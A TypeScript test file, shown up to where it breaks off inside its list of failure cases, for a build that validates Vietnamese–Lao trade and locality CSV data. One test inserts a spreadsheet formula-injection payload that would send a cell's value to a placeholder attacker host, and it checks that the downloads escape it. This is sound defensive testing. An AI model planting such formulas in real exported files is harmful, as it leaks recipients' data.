import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildData, type BuildOptions } from './build';

const fixtures = join(import.meta.dirname, 'fixtures');
const scratch = mkdtempSync(join(tmpdir(), 'data-build-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
const BUILD_DATE = '2026-12-01';

/** A table of data/, a file of data/geo/, or the seed document. */
type File =
  | 'sources' | 'series' | 'observations' | 'localities' | 'twinning' | 'milestones' | 'disagreements'
  | 'geo/vn-la-provinces.topo.json' | 'geo/vn-2025-merger.csv' | 'seeds/doc.txt' | 'seeds';
/** A change to one file's text: the new text or bytes, or null to delete the file. */
type Edit = (text: string) => string | Uint8Array | null;

const pathOf = (dir: string, file: File) =>
  file.startsWith('seeds') ? join(dir, file) : join(dir, 'data', file.includes('/') ? file : `${file}.csv`);

/** Every file under a folder with its SHA-256. */
function snapshot(dir: string): Record<string, string> {
  if (!existsSync(dir)) return {};
  const out: Record<string, string> = {};
  for (const f of readdirSync(dir, { recursive: true }) as string[]) {
    const p = join(dir, f);
    if (statSync(p).isFile()) out[f] = createHash('sha256').update(readFileSync(p)).digest('hex');
  }
  return out;
}

// The outputs of a good build, laid in every case's out/ before it runs: a failing build must leave
// them byte for byte as they were (and leave no temporary file beside them).
const golden = join(scratch, 'golden');
beforeAll(() => {
  cpSync(join(fixtures, 'valid'), join(golden, 'data'), { recursive: true });
  cpSync(join(fixtures, 'seeds'), join(golden, 'seeds'), { recursive: true });
  const r = buildData({ dataDir: join(golden, 'data'), seedsDir: join(golden, 'seeds'), outDir: join(golden, 'out'), displayRoot: golden, buildDate: BUILD_DATE });
  if (!r.ok) throw new Error(`the valid fixtures do not build:\n${r.problems.join('\n')}`);
});

/** Copies the valid fixture set, applies the edits, builds over a previous build's outputs. */
function run(name: string, edits: [File, Edit][], options: Partial<BuildOptions> = {}) {
  const dir = join(scratch, name);
  cpSync(join(fixtures, 'valid'), join(dir, 'data'), { recursive: true });
  cpSync(join(fixtures, 'seeds'), join(dir, 'seeds'), { recursive: true });
  for (const [file, edit] of edits) {
    const path = pathOf(dir, file);
    const next = edit(existsSync(path) && statSync(path).isFile() ? readFileSync(path, 'utf8') : '');
    if (next === null) rmSync(path, { recursive: true });
    else writeFileSync(path, next);
  }
  const out = join(dir, 'out');
  cpSync(join(golden, 'out'), out, { recursive: true });
  const before = snapshot(out);
  const result = buildData({ dataDir: join(dir, 'data'), seedsDir: join(dir, 'seeds'), outDir: out, displayRoot: dir, buildDate: BUILD_DATE, ...options });
  return { result, before, after: snapshot(out) };
}

/** Replaces `from` (which must occur) once. */
const sub = (from: string, to: string) => (t: string) => {
  if (!t.includes(from)) throw new Error(`fixture does not contain ${from}`);
  return t.replace(from, to);
};
const line = (n: number, to: (l: string) => string) => (t: string) => t.split('\n').map((l, i) => (i === n - 1 ? to(l) : l)).join('\n');
const appendRow = (row: string) => (t: string) => t + row + '\n';
const headerOnly = (t: string) => t.split('\n')[0] + '\n';
const remove: Edit = () => null;
const bytes = (t: string, at: string, inserted: number[]) => {
  const i = Buffer.from(t.slice(0, t.indexOf(at))).length;
  const b = Buffer.from(t);
  return new Uint8Array([...b.subarray(0, i), ...inserted, ...b.subarray(i)]);
};
const obsRow = (fields: Partial<Record<string, string>>) => {
  const base: Record<string, string> = {
    obs_id: 'o9', series_id: 'trade.total', period_start: '2015', period_end: '2015', value: '890000000', unit: 'USD',
    status: 'reported', locality_id: '', source_id: 'doc', locator: 'line 2', quote: '"đạt 890 triệu USD"', quote_unit: '', note_vi: '', note_en: ''
  };
  return Object.values({ ...base, ...fields }).join(',');
};
/** A row quoting the Vietnamese web page, whose quote the build reads but cannot check against a document. */
const viRow = (quote: string, value: string, status = 'reported') =>
  obsRow({ obs_id: 'o9', period_start: '2019', period_end: '2019', value, status, source_id: 'web-vi', locator: 'https://example.org/vi', quote: `"${quote}"` });
const localityRow = (fields: Partial<Record<string, string>>) => {
  const base: Record<string, string> = {
    locality_id: 'vn-x', country: 'VN', level: 'former_province', iso_code: '', name_vi: 'Tỉnh cũ', name_en: 'Old province', name_lo: 'ແຂວງເກົ່າ', aliases: '', parent_id: '',
    valid_from: '1976', valid_to: '1991', successor_ids: 'vn-son-la', merged_into_2025: '', lon: '', lat: '', coord_source: '', note_vi: '', note_en: ''
  };
  return Object.values({ ...base, ...fields }).join(',');
};
const topo = (edit: (t: Record<string, any>) => void) => (text: string) => {
  const t = JSON.parse(text);
  edit(t);
  return JSON.stringify(t);
};

/** Windows-1258, the Vietnamese code page of Windows: base letters plus separate tone marks. */
function cp1258(text: string): Uint8Array {
  const base: Record<string, number> = { â: 0xe2, ê: 0xea, ô: 0xf4, ă: 0xe3, đ: 0xf0, ơ: 0xf5, ư: 0xfd, Â: 0xc2, Ê: 0xca, Ô: 0xd4, Ă: 0xc3, Đ: 0xd0, Ơ: 0xd5, Ư: 0xdd };
  const tone: Record<string, number> = { '\u0300': 0xcc, '\u0301': 0xec, '\u0303': 0xde, '\u0309': 0xd2, '\u0323': 0xf2 };
  const out: number[] = [];
  for (const ch of text) {
    if (ch.charCodeAt(0) < 0x80) {
      out.push(ch.charCodeAt(0));
      continue;
    }
    const parts = [...ch.normalize('NFD')];
    const marks = parts.filter((p) => tone[p]);
    const letter = parts.filter((p) => !tone[p]).join('').normalize('NFC');
    out.push(base[letter] ?? letter.charCodeAt(0), ...marks.map((m) => tone[m]));
  }
  return new Uint8Array(out);
}

describe('the valid fixture set', () => {
  it('builds and writes the JSON, the map and the downloadable copies', () => {
    const out = join(golden, 'out');
    expect(Object.keys(snapshot(out)).sort()).toEqual([
      'src/lib/data/generated/dataset.json',
      'src/lib/data/generated/map.json',
      'static/data/dataset.json',
      'static/data/observations.csv',
      'static/data/twinning.csv'
    ]);
    const json = JSON.parse(readFileSync(join(out, 'src/lib/data/generated/dataset.json'), 'utf8'));
    expect(json.observations[1]).toMatchObject({ obs_id: 'o2', value: 823400000, status: 'reported' });
    expect(json.observations).toHaveLength(6);
    const map = JSON.parse(readFileSync(join(out, 'src/lib/data/generated/map.json'), 'utf8'));
    expect(map.vn.map((p: { iso: string }) => p.iso)).toEqual(['VN-05', 'VN-14']);
    expect(map.merger['VN-14']).toEqual({ new_id: 'phu-tho', new_name_vi: 'Phú Thọ', unchanged: true });
  });
  it('writes the downloads from the checked rows through the one CSV writer (BOM, numbers as numbers)', () => {
    const csv = readFileSync(join(golden, 'out/static/data/observations.csv'), 'utf8');
    expect(csv.startsWith('\ufeffobs_id,series_id,')).toBe(true);
    expect(csv).toContain('\no5,trade.total_growth,2018,2018,-2.1,percent,reported,,web,');
  });
  it('escapes a formula in a note in the downloads', () => {
    const dir = join(scratch, 'formula');
    cpSync(join(fixtures, 'valid'), join(dir, 'data'), { recursive: true });
    const obs = join(dir, 'data/observations.csv');
    writeFileSync(obs, readFileSync(obs, 'utf8').replace('USD",,,\no2', 'USD",,,"=HYPERLINK(""http://evil.example/?""&A1,""Xem"")"\no2'));
    const r = buildData({ dataDir: join(dir, 'data'), seedsDir: join(fixtures, 'seeds'), outDir: join(dir, 'out'), displayRoot: dir, buildDate: BUILD_DATE });
    expect(r.problems).toEqual([]);
    expect(readFileSync(join(dir, 'out/static/data/observations.csv'), 'utf8')).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")"\n`);
  });
  it('says in one line that quotes were not checked when the documents are absent (outside CI)', () => {
    const dir = join(scratch, 'noseeds');
    cpSync(join(fixtures, 'valid'), join(dir, 'data'), { recursive: true });
    const result = buildData({ dataDir: join(dir, 'data'), seedsDir: join(dir, 'nothing'), outDir: join(dir, 'out'), displayRoot: dir, buildDate: BUILD_DATE });
    expect(result.ok).toBe(true);
    expect(result.warnings).toEqual(['warning: nothing not found; quotes and SHA-256 of the source documents were not checked']);
  });
  it.each([
    ['a target may lie ahead', 'observations', appendRow(viRow('mục tiêu năm 2030 đạt 5 tỷ USD', '5000000000', 'target').replace(',2019,2019,', ',2030,2030,'))],
    ['disagreements may be empty', 'disagreements', headerOnly],
    ['a disagreement names a real series and period', 'disagreements', appendRow('trade.total,,2016,2016,definition,Hai nguồn đếm khác nhau,The two sources count differently')],
    ['a quote may state the number twice, once qualified', 'observations', appendRow(viRow('đạt 2 tỷ USD, tức là hơn 2 tỷ USD kế hoạch', '2000000000'))],
    ['a name the same in both languages', 'series', sub('Tổng kim ngạch,Two-way trade', 'Trade Total Index,Trade Total Index')]
  ] as [string, File, Edit][])('%s', (name, file, edit) => {
    // A reason needs a real disagreement: a second source's different value for 2016.
    const edits: [File, Edit][] = name.startsWith('a disagreement') ? [['observations', appendRow(OTHER_2016)], [file, edit]] : [[file, edit]];
    const r = run(`ok-${name.replace(/\W+/g, '-')}`, edits);
    expect(r.result.problems).toEqual([]);
    expect(r.result.ok).toBe(true);
  });
});

// Each malformed input: the file(s) changed, the defect, and the exact lines the build must print.
const OTHER_2016 = 'o7,trade.total,2016,2016,892900000,USD,reported,,web,https://example.org/trade,"trade amounted to 892.9 million USD in 2017, up 8.5 percent",,,';
type Case = [string, [File, Edit][], string[], Partial<BuildOptions>?];
const one = (file: File, edit: Edit): [File, Edit][] => [[file, edit]];
const SL = 'data/localities.csv';
const TOPO = 'data/geo/vn-la-provinces.topo.json';
const MERGER = 'data/geo/vn-2025-merger.csv';

const cases: Case[] = [
  // Reading the CSV: RFC 4180, one record per line, the header.
  ['bad number', one('observations', sub('890000000,USD', '1,2x,USD')), ['data/observations.csv:2: row has 15 fields, the header has 14']],
  ['value with letters', one('observations', sub('890000000,USD', '1.2x,USD')), ['data/observations.csv:2: value "1.2x" is not a number (plain digits, \'.\' as decimal mark)']],
  ['value with a thousands separator', one('observations', sub('823400000', '"823.400.000"')), ['data/observations.csv:3: value "823.400.000" is not a number (plain digits, \'.\' as decimal mark)']],
  ['empty value', one('observations', sub('823400000', '')), ['data/observations.csv:3: value "" is not a number (plain digits, \'.\' as decimal mark)']],
  ['comma missing after a quoted field', one('sources', sub('Tài liệu thử,Test document', '"Tài liệu thử"Test document')), ['data/sources.csv:2: field 3 (title_vi): after its closing " comes "Test documen"; only a comma may follow (is a comma missing, or an inner " not doubled?)']],
  ['a quote inside a plain field', one('sources', sub('Test publisher', 'Test "publisher"')), ['data/sources.csv:2: field 6 (publisher_en) has a " inside it: wrap the whole field in quotes and double each inner " ("like ""this""")']],
  ['an inner quote not doubled', one('observations', sub('"Năm 2016 đạt 823,4 triệu USD"', '"Năm 2016 "đạt" 823,4 triệu USD"')), ['data/observations.csv:3: field 11 (quote): after its closing " comes "đạt" 823,4 t"; only a comma may follow (is a comma missing, or an inner " not doubled?)']],
  ['unterminated quote', one('observations', sub('890 triệu USD",', '890 triệu USD,')), ['data/observations.csv:2: quoted field is never closed (unbalanced ")']],
  ['missing column', one('observations', (t) => t.replace(',note_en', '').replace(/,\n/g, '\n')), ['data/observations.csv:1: missing column: note_en']],
  ['unknown column', one('series', line(1, (l) => l + ',colour')), ['data/series.csv:1: unknown column: colour']],
  ['column named twice', one('series', line(1, (l) => l.replace('label_en', 'label_vi'))), ['data/series.csv:1: missing column: label_en', 'data/series.csv:1: column named twice: label_vi']],
  ['byte-order mark', one('observations', (t) => '\ufeff' + t), ['data/observations.csv:1: file starts with a byte-order mark; save it as UTF-8 without BOM']],
  ['CRLF line endings', one('observations', (t) => t.replace(/\n/g, '\r\n')), ['data/observations.csv:1: line ends with CR (Windows line endings); use LF only']],
  ['a lone CR in a field', one('milestones', sub('Hiệp ước,Treaty', 'Hiệp ước\r,Treaty')), ['data/milestones.csv:2: line ends with CR (Windows line endings); use LF only']],
  ['empty file', one('observations', () => ''), ['data/observations.csv:1: file is empty; expected a header row']],
  ['empty line in the middle', one('observations', (t) => t.replace('\no2,', '\n\no2,')), ['data/observations.csv:3: empty line']],
  ['too few fields', one('milestones', line(2, (l) => l.split(',').slice(0, 5).join(','))), ['data/milestones.csv:2: row has 5 fields, the header has 13']],

  // Text: UTF-8 only, nothing invisible, no mojibake, not too long, Vietnamese where it says _vi.
  ['saved as Windows-1258', one('localities', (t) => cp1258(t)), [`${SL}:2: not UTF-8 text (byte 0xF5); the file was saved in another encoding (such as Windows-1258 or Windows-1252): save it as UTF-8`]],
  ['a raw 0xFF byte', one('series', (t) => bytes(t, 'Tổng kim ngạch', [0xff])), ['data/series.csv:2: not UTF-8 text (byte 0xFF); the file was saved in another encoding (such as Windows-1258 or Windows-1252): save it as UTF-8']],
  ['a truncated UTF-8 sequence', one('series', (t) => bytes(t, 'Mức tăng', [0xe1, 0xbb])), ['data/series.csv:3: not UTF-8 text (byte 0xE1); the file was saved in another encoding (such as Windows-1258 or Windows-1252): save it as UTF-8']],
  ['a NUL byte', one('series', sub('Tổng kim ngạch', 'Tổng kim\u0000 ngạch')), ['data/series.csv:2: label_vi has a NUL byte (U+0000) after "Tổng kim"; delete it']],
  ['a control character', one('milestones', sub('Hiệp ước', 'Hiệp\u0007 ước')), ['data/milestones.csv:2: title_vi has a control character (U+0007) after "Hiệp"; delete it']],
  ['a tab in a field', one('series', sub('Two-way trade', 'Two-way\ttrade')), ['data/series.csv:2: label_en has a tab character after "Two-way"; use a space']],
  ['a right-to-left override', one('localities', sub('Mộc Châu,Moc Chau', 'Mộc Châu,\u202euahC coM')), [`${SL}:4: name_en has an invisible text-direction character (U+202E RIGHT-TO-LEFT OVERRIDE) at the start; delete it`]],
  ['a zero-width space', one('twinning', sub('hợp tác với', 'hợp tác\u200b với')), ['data/twinning.csv:2: quote has an invisible character (U+200B ZERO WIDTH SPACE) after "văn bản hợp tác"; delete it']],
  ['a byte-order mark inside a field', one('sources', sub('Test News,Test News', 'Test News,\ufeffTest News')), ['data/sources.csv:3: publisher_en has an invisible character (U+FEFF ZERO WIDTH NO-BREAK SPACE (a byte-order mark)) at the start; delete it']],
  ['U+FFFD from a lossy conversion', one('localities', sub('Hủa Phăn', 'H\ufffda Ph\ufffdn')), [`${SL}:3: name_vi has U+FFFD (�), a letter lost when the text was converted from another encoding, after "H"; retype it from the source`]],
  ['double-encoded UTF-8', one('series', sub('Tổng kim ngạch', 'Tá»•ng kim ngáº¡ch')), ['data/series.csv:2: label_vi looks double-encoded: "Tá»•ng" is UTF-8 text read as Windows-1252 (it should read "Tổng"); retype it, or open the file as UTF-8']],
  ['double-encoded UTF-8 with a byte lost', one('series', sub('Tổng kim ngạch', 'Tá»ng kim ngạch')), ['data/series.csv:2: label_vi looks double-encoded: "Tá»ng" is UTF-8 text read as Windows-1252; retype it, or open the file as UTF-8']],
  ['double-encoded "Ã"', one('localities', sub('Sơn La,Son La', 'SÆ¡n La,Son La')), [`${SL}:2: name_vi looks double-encoded: "SÆ¡n" is UTF-8 text read as Windows-1252 (it should read "Sơn"); retype it, or open the file as UTF-8`]],
  ['decomposed accents (NFD)', one('milestones', sub('Hiệp ước', 'Hiệp ước'.normalize('NFD'))), ['data/milestones.csv:2: title_vi has letters and their accents stored apart (Unicode NFD, as some Mac editors save); retype it or save as NFC']],
  ['a note too long', one('observations', sub('USD",,,\no2', `USD",,,"${'x'.repeat(2001)}"\no2`)), ['data/observations.csv:2: note_en is 2,001 characters long; at most 2,000 are allowed']],
  ['a name too long', one('series', sub('Two-way trade', 'Trade '.repeat(60))), ['data/series.csv:2: label_en is 360 characters long; at most 300 are allowed']],
  ['a 10 MB note', one('observations', sub('USD",,,\no2', `USD",,,"${'x'.repeat(10 * 1024 * 1024)}"\no2`)), ['data/observations.csv: the file is 10.0 MB; a data file may be at most 5 MB']],
  ['label_vi and label_en swapped', one('series', sub('Tổng kim ngạch,Two-way trade', 'Two-way trade,Tổng kim ngạch')), ['data/series.csv:2: label_vi and label_en look swapped: label_vi has no Vietnamese letter, label_en has']],
  ['title_vi and title_en swapped', one('milestones', sub('Hiệp ước,Treaty', 'The Treaty,Hiệp ước')), ['data/milestones.csv:2: title_vi and title_en look swapped: title_vi has no Vietnamese letter, title_en has']],
  ['Vietnamese typed without its marks', one('sources', sub('Tài liệu thử,Test document', 'Tai lieu thu nghiem,Test document')), ['data/sources.csv:2: title_vi "Tai lieu thu nghiem" has no Vietnamese letter: the marks are missing, or it is English (a name the same in both languages is written the same in title_en)']],
  // Lao (`_lo`): present wherever its English twin is, in Lao letters.
  ['a Lao column missing', one('series', (t) => t.replace(',label_lo', '').replace(/,ມູນຄ່າການຄ້າ|,ການເຕີບໂຕ/g, '')), ['data/series.csv:1: missing column: label_lo']],
  ['an empty Lao label', one('series', sub('Two-way trade,ມູນຄ່າການຄ້າ', 'Two-way trade,')), ['data/series.csv:2: label_lo is empty']],
  ['a description with no Lao', one('series', sub('USD,flow,,,', 'USD,flow,Tổng giá trị,Total value,')), ['data/series.csv:2: description_lo is empty, but description_en is not: write it in Lao']],
  ['a Lao name left in English', one('localities', sub('Son La,ເຊີນລາ', 'Son La,Son La Province')), [`${SL}:2: name_lo "Son La Province" has no Lao letter: it is not Lao (a name the same in every language is written the same as in name_en)`]],
  ['a Lao title in Thai letters', one('milestones', sub('Treaty,ສົນທິສັນຍາ', 'Treaty,สนธิสัญญา')), ['data/milestones.csv:2: title_lo "สนธิสัญญา" has Thai letters (ส, U+0E2A), not Lao: typed with a Thai keyboard layout, or pasted from a Thai page?']],
  ['a 2025 unit without a Lao name', one('geo/vn-2025-merger.csv', sub('Sơn La,ເຊີນລາ,son-la', 'Sơn La,,son-la')), [`${MERGER}:2: new_name_lo is empty`]],
  ['a 2025 unit named in Vietnamese in the Lao column', one('geo/vn-2025-merger.csv', sub('Sơn La,ເຊີນລາ,son-la', 'Sơn La,Son La,son-la')), [`${MERGER}:2: new_name_lo "Son La" has no Lao letter: it is not Lao (a name the same in every language is written the same as in new_name_vi)`]],
  ['a 2025 unit with two Lao names', one('geo/vn-2025-merger.csv', sub('VN-14,Hòa Bình,Phú Thọ,ຟູເທາະ,phu-tho,true', 'VN-14,Hòa Bình,Sơn La,ເຊີນລາເກົ່າ,son-la,true')), [`${MERGER}: no province joins the 2025 unit "phu-tho" of the map`, `${MERGER}:2: new_is_unchanged is true, but son-la joins 2 provinces: false`, `${MERGER}:3: new_name_lo "ເຊີນລາເກົ່າ" differs from line 2, where son-la is "ເຊີນລາ"`, `${MERGER}:3: new_id "son-la" differs from the map, where VN-14 is in "phu-tho"`, `${MERGER}:3: new_is_unchanged is true, but son-la joins 2 provinces: false`]],

  // Rows: the schema's rules.
  ['unknown source', one('observations', sub(',doc,line 2', ',book,line 2')), ['data/observations.csv:2: unknown source_id "book"']],
  ['unknown series', one('observations', sub('o1,trade.total,', 'o1,trade.totals,')), ['data/observations.csv:2: unknown series_id "trade.totals"']],
  ['unknown locality', one('observations', sub('USD,reported,,doc,line 2', 'USD,reported,vn-atlantis,doc,line 2')), ['data/observations.csv:2: unknown locality_id "vn-atlantis"']],
  ['duplicate obs id', one('observations', sub('o2,trade.total', 'o1,trade.total')), ['data/observations.csv:3: duplicate obs_id "o1" (first on line 2)']],
  ['end before start', one('observations', sub('o1,trade.total,2015,2015', 'o1,trade.total,2015,2014')), ['data/observations.csv:2: period_end 2014 is before period_start 2015']],
  ['month 13', one('observations', sub('o1,trade.total,2015,2015', 'o1,trade.total,2014-13,2015')), ['data/observations.csv:2: period_start "2014-13" is not a real date']],
  ['31 February', one('observations', sub('o1,trade.total,2015,2015', 'o1,trade.total,2015-02-31,2015')), ['data/observations.csv:2: period_start "2015-02-31" is not a real date']],
  ['period not ISO', one('observations', sub('o1,trade.total,2015,2015', 'o1,trade.total,2015/16,2016')), ['data/observations.csv:2: period_start must be YYYY, YYYY-MM or YYYY-MM-DD']],
  ['unknown status', one('observations', sub('890000000,USD,reported', '890000000,USD,guessed')), ['data/observations.csv:2: status "guessed" is not one of: reported, estimate, approximate, lower_bound, upper_bound, preliminary, target']],
  ['a 10 KB status is cut short in the message', one('observations', sub('890000000,USD,reported', `890000000,USD,${'g'.repeat(250)}`)), [`data/observations.csv:2: status "${'g'.repeat(57)}…" is not one of: reported, estimate, approximate, lower_bound, upper_bound, preliminary, target`]],
  ['wrong unit for series', one('observations', sub('890000000,USD', '890000000,VND')), ['data/observations.csv:2: unit "VND" does not match series trade.total (USD)']],
  ['unit not allowed', one('observations', sub('890000000,USD', '890000000,EUR')), ['data/observations.csv:2: unit "EUR" is not one of: USD, VND, LAK, persons, projects, percent, count, km, tonnes, hectares']],
  ['negative level', one('observations', appendRow(obsRow({ obs_id: 'o9', value: '-890000000' }))), ['data/observations.csv:8: value -890000000 is negative; only rate series may be', 'data/observations.csv:8: value -890000000 is not a number in the quote (numbers read: 890000000)']],
  ['bad sha format', one('sources', (t) => t.replace(/,[0-9a-f]{64},/, ',abc,')), ['data/sources.csv:2: sha256 must be 64 lower-case hex digits']],
  ['source with neither file nor url', one('sources', sub(',,https://example.org/trade,', ',,,')), ['data/sources.csv:3: source "web" has neither file nor url']],
  ['bad url', one('sources', sub('https://example.org/trade', 'example dot org')), ['data/sources.csv:3: url must be an http(s) address']],
  ['url with port 99999', one('sources', sub(',https://example.org/trade,', ',https://example.org:99999/trade,')), ['data/sources.csv:3: url "https://example.org:99999/trade" is not a working address: port 99999 is out of range (at most 65535)']],
  ['url that does not parse', one('sources', sub(',https://example.org/trade,', ',https://exa[mple.org/trade,')), ['data/sources.csv:3: url "https://exa[mple.org/trade" is not a working address: it does not parse as an address']],
  ['url with a password', one('sources', sub(',https://example.org/trade,', ',https://user:secret@example.org/trade,')), ['data/sources.csv:3: url "https://user:secret@example.org/trade" is not a working address: it holds a user name or password']],
  ['coord_source with a bad port', one('localities', appendRow(localityRow({ locality_id: 'vn-son-la--gate-x', level: 'border_gate', parent_id: 'vn-son-la', successor_ids: '', valid_from: '', valid_to: '', name_vi: 'Cửa khẩu X', name_en: 'X border gate', lon: '104.1', lat: '20.6', coord_source: 'https://maps.example.org:70000/x' }))), [`${SL}:5: coord_source "https://maps.example.org:70000/x" is not a working address: port 70000 is out of range (at most 65535)`]],
  ['unknown language', one('sources', sub(',vi,', ',de,')), ['data/sources.csv:2: language "de" is not one of: vi, en, fr, lo']],
  ['duplicate source id', one('sources', sub('web,press,Web page', 'doc,press,Web page')), ['data/sources.csv:3: duplicate source_id "doc" (first on line 2)', 'data/observations.csv:4: unknown source_id "web"', 'data/observations.csv:5: unknown source_id "web"', 'data/observations.csv:6: unknown source_id "web"']],
  ['bad id characters', one('series', sub('trade.total_growth', 'Trade Growth')), ['data/series.csv:3: series_id must be lower-case letters, digits, \'.\', \'_\' or \'-\'', 'data/observations.csv:5: unknown series_id "trade.total_growth"', 'data/observations.csv:6: unknown series_id "trade.total_growth"']],
  ['unknown series kind', one('series', sub('USD,flow', 'USD,stream')), ['data/series.csv:2: kind "stream" is not one of: flow, school_year_flow, stock, cumulative, rate, average']],
  ['empty label', one('series', sub('Two-way trade', '')), ['data/series.csv:2: label_en is empty']],
  ['bad ISO code', one('localities', sub('VN-05', 'VN5')), [`${SL}:2: iso_code must look like VN-05 or LA-HO`]],
  ['level not in the list', one('localities', sub('la-houaphanh,LA,province', 'la-houaphanh,LA,region')), [`${SL}:3: level "region" is not one of: province, former_province, district, city, border_gate, commune`]],
  ['unknown parent', one('localities', sub(',vn-son-la,,,,,,,,,', ',vn-son-lo,,,,,,,,,')), [`${SL}:4: unknown parent_id "vn-son-lo"`]],
  ['unknown successor', one('localities', appendRow(localityRow({ successor_ids: 'vn-nam-dinh' }))), [`${SL}:5: unknown successor "vn-nam-dinh"`]],
  ['valid_to before valid_from', one('localities', appendRow(localityRow({ valid_from: '1991', valid_to: '1975' }))), [`${SL}:5: valid_to 1975 is before valid_from 1991`]],
  ['iso code used twice', one('localities', appendRow('vn-son-la-2,VN,province,VN-05,Sơn La 2,Son La 2,ເຊີນລາ 2,,,,,,,,,,,')), [`${SL}:5: iso_code VN-05 is also used by vn-son-la`]],
  ['province without iso code', one('localities', appendRow('vn-x,VN,province,,X,X,X,,,,,,,,,,,')), [`${SL}:5: province "vn-x" has no iso_code`]],
  ['iso code of the other country', one('localities', sub('la-houaphanh,LA,province,LA-HO', 'la-houaphanh,LA,province,VN-HO')), [`${SL}:3: iso_code VN-HO does not belong to country LA`]],
  ['duplicate link id', one('twinning', (t) => t + t.split('\n')[1] + '\n'), ['data/twinning.csv:3: duplicate link_id "l1" (first on line 2)']],
  ['link code not the province', one('twinning', sub('vn-son-la,VN-05', 'vn-son-la,VN-14')), ['data/twinning.csv:2: vn_code VN-14 is not the province of "vn-son-la" (VN-05)']],
  ['link partner in the wrong country', one('twinning', sub('la-houaphanh,LA-HO', 'vn-son-la,LA-HO')), ['data/twinning.csv:2: la_locality_id "vn-son-la" is not in Laos']],
  ['link kind unknown', one('twinning', sub(',cooperation,', ',alliance,')), ['data/twinning.csv:2: kind "alliance" is not one of: twinning, cooperation, friendship, border_gate_pair']],
  ['since not a date', one('twinning', sub(',1969-11,', ',tháng 11/1969,')), ['data/twinning.csv:2: since must be YYYY, YYYY-MM or YYYY-MM-DD']],
  ['link status unknown', one('twinning', sub(',active,', ',dormant,')), ['data/twinning.csv:2: status "dormant" is not one of: active, historical']],
  [
    'a border-gate pair between provinces that share no border',
    [
      ['localities', appendRow(localityRow({ locality_id: 'vn-hoa-binh', level: 'province', iso_code: 'VN-14', name_vi: 'Hòa Bình', name_en: 'Hoa Binh', valid_from: '', valid_to: '', successor_ids: '' }))],
      ['twinning', appendRow('g1,vn-hoa-binh,VN-14,la-houaphanh,LA-HO,border_gate,border_gate_pair,,active,,,doc,line 4,Tỉnh Sơn La đã ký văn bản hợp tác với tỉnh Hủa Phăn,2026-11-24,,')]
    ],
    ['data/twinning.csv:3: border-gate pair g1: VN-14 and LA-HO share no border on the map']
  ],
  [
    'border-gate coordinates far from the border',
    [
      ['localities', appendRow(localityRow({ locality_id: 'vn-son-la--gate-x', level: 'border_gate', name_vi: 'Cửa khẩu X', name_en: 'X border gate', parent_id: 'vn-son-la', valid_from: '', valid_to: '', successor_ids: '', lon: '103.9', lat: '22.4' }))],
      ['twinning', appendRow('g1,vn-son-la--gate-x,VN-05,la-houaphanh,LA-HO,border_gate,border_gate_pair,,active,,,doc,line 4,Tỉnh Sơn La đã ký văn bản hợp tác với tỉnh Hủa Phăn,2026-11-24,,')]
    ],
    [`${SL}:5: lon/lat lies 199 km from the border of VN-05 and LA-HO; a border gate is on it`]
  ],
  ['last_verified impossible', one('twinning', sub(',2026-11-24,', ',2026-11-31,')), ['data/twinning.csv:2: last_verified "2026-11-31" is not a real date']],
  ['milestone importance', one('milestones', sub(',treaty,1,', ',treaty,5,')), ['data/milestones.csv:2: importance "5" must be 1, 2 or 3']],
  ['milestone unknown source', one('milestones', sub(',doc,line 5,', ',book,line 5,')), ['data/milestones.csv:2: unknown source_id "book"']],
  ['milestone date impossible', one('milestones', sub('1977-07-18', '1977-07-32')), ['data/milestones.csv:2: date "1977-07-32" is not a real date']],
  ['milestone end before its date', one('milestones', sub('1977-07-18,,', '1977-07-18,1976,')), ['data/milestones.csv:2: date_end 1976 is before date 1977-07-18']],
  ['disagreement about an unknown series', one('disagreements', appendRow('trade.totals,,2018,2018,definition,Khác nhau,Different')), ['data/disagreements.csv:2: unknown series_id "trade.totals"']],
  ['disagreement twice for one period', one('disagreements', appendRow('trade.total,,2018,2018,definition,Khác nhau,Different\ntrade.total,,2018,2018,unknown,Chưa rõ,Not known')), ['data/disagreements.csv:3: duplicate series, locality and period "trade.total, 2018–2018" (first on line 2)']],
  ['disagreement without a reason', one('disagreements', appendRow('trade.total,,2018,2018,,Khác nhau,Different')), ['data/disagreements.csv:2: reason "" is not one of: definition, revision, preliminary_final, misprint, part_year, coverage, rounding, unknown']],

  // The quote: found in the document, and the value one of its numbers, read with its multiplier.
  ['quote not at the line', one('observations', sub(',doc,line 2,', ',doc,line 5,')), ['data/observations.csv:2: quote not found within 2 lines of line 5 in doc.txt']],
  ['line beyond the end', one('observations', sub(',doc,line 2,', ',doc,line 90,')), ['data/observations.csv:2: locator line 90 is beyond the end of doc.txt (6 lines)']],
  ['locator not a line', one('observations', sub(',doc,line 2,', ',doc,page 2,')), ['data/observations.csv:2: locator "page 2" must be "line N" for a document source']],
  ['quote altered', one('observations', sub('đạt 890 triệu USD"', 'đạt 980 triệu USD"')), ['data/observations.csv:2: quote not found within 2 lines of line 2 in doc.txt']],
  ['quote without diacritics', one('observations', sub('kim ngạch thương mại', 'kim ngach thuong mai')), ['data/observations.csv:2: quote not found within 2 lines of line 2 in doc.txt']],
  ['quote with one dropped diacritic', one('observations', sub('hai chiều', 'hai chieu')), ['data/observations.csv:2: quote not found within 2 lines of line 2 in doc.txt']],
  ['web locator differs from url', one('observations', sub('o3,trade.total,2017,2017,892900000,USD,reported,,web,https://example.org/trade', 'o3,trade.total,2017,2017,892900000,USD,reported,,web,https://example.org/other')), ['data/observations.csv:4: locator "https://example.org/other" must be the source\'s url (https://example.org/trade)']],
  ['value not in quote', one('observations', sub('o1,trade.total,2015,2015,890000000', 'o1,trade.total,2015,2015,89000000')), ['data/observations.csv:2: value 89000000 is not a number in the quote (numbers read: 890000000)']],
  ['value read the English way', one('observations', sub('823400000', '823400')), ['data/observations.csv:3: value 823400 is not a number in the quote (numbers read: 823400000)']],
  ['value without its multiplier ("890 triệu" as 890)', one('observations', sub('2015,2015,890000000', '2015,2015,890')), ['data/observations.csv:2: value 890 is the quote\'s "890 triệu" without its multiplier; write 890000000']],
